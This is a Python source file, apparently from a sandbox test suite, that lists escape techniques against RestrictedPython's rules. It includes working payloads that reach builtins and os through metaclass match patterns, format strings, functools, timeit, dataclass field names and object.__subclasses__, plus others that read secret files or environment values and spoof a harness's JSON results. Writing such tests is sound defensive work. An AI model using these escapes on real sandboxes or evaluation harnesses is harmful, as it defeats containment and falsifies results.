"""Ways round the restricted tier's rules: each is ordinary-looking code that a rule on names does not see.

RestrictedPython is hygiene, not the boundary. What gets past it here still
meets the operating system's layers; `experiments/benchmarks/attack_table.py` shows
which of these the rules alone stop.
"""

from __future__ import annotations

from attacks.case import CHANNEL, FACADE, LANDLOCK, NAMESPACES, POLICY, SECCOMP, WORLD, Attack, Proof, spoof

FILES = (POLICY, FACADE, SECCOMP, LANDLOCK, NAMESPACES)


# why the rules alone do not stop it
DATA = (("rules", "the rules look at names in the source, and this name is only data there"),)
LIBRARY = (("rules", "a function of an allowed module does more than its name says"),)


def _writes(
    id: str,  # noqa: A002
    mechanism: str,
    source: str,
    residual: tuple[tuple[str, str], ...] = (),
    needs: str = "",
) -> Attack:
    return Attack(id, mechanism, Proof.MARKER, source, FILES, residual=residual, needs=needs)


ATTACKS = (
    _writes(
        "match-args-metaclass",
        "a metaclass' __instancecheck__ lets a positional pattern read any attribute of any object",
        """
import textwrap
class Anything(type):
    def __instancecheck__(cls, other):
        return True
class Reach(metaclass=Anything):
    __match_args__ = ("__globals__",)
def attack():
    match textwrap.dedent:
        case Reach(names):
            there = names["__builtins__"]
            (there if isinstance(there, dict) else vars(there))["open"]("@MARKER@", "w").close()
""",
        residual=DATA,
    ),
    Attack(
        "super-format",
        "super().format in a str subclass is str.format on an object that no guard takes for a str",
        Proof.LEAK,
        """
import textwrap
class Text(str):
    def fill(self, *values):
        return super().format(*values)
def attack():
    path = "{0.__globals__[re].enum.sys.modules[os].environ[@SECRET_NAME@]}"
    return Text(path).fill(textwrap.dedent)
""",
        (POLICY, FACADE, WORLD),
    ),
    _writes(
        "update-wrapper",
        "functools.update_wrapper reads the attributes it is told and hands them to __setattr__",
        """
import functools, textwrap
got = []
class Taker:
    def __setattr__(self, name, value):
        got.append(value)
def attack():
    functools.update_wrapper(Taker(), textwrap.dedent, assigned=("__builtins__",), updated=())
    got[0]["open"]("@MARKER@", "w").close()
""",
        residual=LIBRARY,
    ),
    _writes(
        "timeit-statement",
        "timeit compiles and runs a string in its own module's globals",
        """
import timeit
def attack():
    timeit.timeit("open('@MARKER@', 'w').close()", number=1)
""",
    ),
    _writes(
        "redirect-attribute",
        "contextlib's redirection sets and keeps whichever attribute of sys its _stream names",
        """
import contextlib
def attack():
    redirection = contextlib.redirect_stdout({})
    redirection._stream = "modules"
    with redirection:
        modules = redirection._old_targets[0]
    modules["os"].mkdir("@MARKER@")
""",
        residual=LIBRARY,
    ),
    _writes(
        "warnings-module",
        "warnings.catch_warnings keeps the real module in _module",
        """
import warnings
def attack():
    warnings.catch_warnings()._module.sys.modules["os"].mkdir("@MARKER@")
""",
    ),
    _writes(
        "dataclass-field-name",
        "dataclass() writes field names into source text; a field name carries an expression",
        """
import dataclasses
@dataclasses.dataclass(init=False, repr=False)
class Pair:
    __module__ = "os"
    a = 1
    __annotations__ = {"a, mkdir('@MARKER@')": int}
def attack():
    return Pair() == Pair()
""",
        needs="sys.version_info < (3, 14)",
        residual=LIBRARY,
    ),
    _writes(
        "annotation-text",
        "singledispatch evaluates a string annotation that was never checked",
        """
import functools
@functools.singledispatch
def shape(x):
    return x
def attack():
    def other(x: "[k for k in object.__subclasses__() if k.__name__ == '_wrap_close'][0]"
                 ".__init__.__globals__['mkdir']('@MARKER@') or int"):
        return x
    shape.register(other)
""",
    ),
    _writes(
        "copy-state",
        "copy sets any attribute of any object from what __reduce_ex__ returns",
        """
import copy, functools, textwrap
got = []
class Taker:
    def __setattr__(self, name, value):
        got.append(value)
class Carrier:
    def __reduce_ex__(self, protocol):
        return (lambda: Taker()), (), (None, {"x": textwrap})
def attack():
    copy.copy(Carrier())
    getattr(got[0], "re").enum.sys.modules["os"].mkdir("@MARKER@")
""",
    ),
    _writes(
        "class-dictionary",
        "vars() of a library class holds its functions, and those their globals",
        """
import enum
def attack():
    found = [value for value in vars(enum.Enum).values() if hasattr(value, "__globals__")]
    found[0].__globals__["sys"].modules["os"].mkdir("@MARKER@")
""",
    ),
    _writes(
        "object-setattr",
        "object.__setattr__ sets what the guarded setattr refuses",
        """
import functools, textwrap
codes = []
class Taker:
    def __setattr__(self, name, value):
        codes.append(value)
def harmless(text):
    return text
def attack():
    functools.update_wrapper(Taker(), run, assigned=("__code__",), updated=())
    object.__setattr__(textwrap.dedent, "__code__", codes[0])
    textwrap.dedent("@MARKER@")
def run(text):
    open(text, "w").close()
""",
        residual=DATA,
    ),
    _writes(
        "exit-match",
        "the traceback that __exit__ is given is taken apart by a pattern",
        """
class Anything(type):
    def __instancecheck__(cls, other):
        return True
class Frame(metaclass=Anything):
    __match_args__ = ("tb_frame",)
class Back(metaclass=Anything):
    __match_args__ = ("f_back",)
class Builtins(metaclass=Anything):
    __match_args__ = ("f_builtins",)
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        match trace:
            case Frame(Back(Builtins(names))):
                names["open"]("@MARKER@", "w").close()
        return True
def attack():
    with Catch():
        1 / 0
""",
    ),
    Attack(
        "format-warning",
        "warnings.formatwarning reads a line of any file to show it",
        Proof.LEAK,
        """
import warnings
def attack():
    return warnings.formatwarning("x", UserWarning, "@SECRET_FILE@", 1)
""",
        FILES,
        residual=LIBRARY,
    ),
    Attack(
        "node-address",
        "uuid.getnode asks the system for its hardware address, by running programs if need be",
        Proof.LEAK,
        """
import uuid
def attack():
    return ["node", uuid.getnode() == @NODE@]
""",
        (FACADE, WORLD, SECCOMP, NAMESPACES),
        sought='["node", true]',
    ),
    spoof(
        "patched-iterencode",
        "a public class of json, which the harness encodes with, gets another method",
        """
import json
left = [5, 6]
def frames(self, found, _one_shot=False):
    if isinstance(found, list) and found and found[0] == "call":
        return ['["call","returned",%d,null,[],"",""]' % left.pop(0)]
    if isinstance(found, list) and found and found[0] == "end":
        return ['["end","completed","",[],null]']
    return ["[5, 6]"]
json.JSONEncoder.iterencode = frames
json.JSONEncoder.encode = lambda self, found: "".join(frames(self, found))
def add(a, b):
    return 0
""",
        (CHANNEL, FACADE),
        judge="frame",
    ),
    spoof(
        "borrowed-type-name",
        "a class that borrows the name and module of a type that is shown by its repr",
        """
class Shown:
    def __repr__(self):
        return "5"
    def __eq__(self, other):
        return True
Shown.__name__, Shown.__qualname__, Shown.__module__ = "int", "int", "builtins"
def add(a, b):
    return Shown()
""",
    ),
)
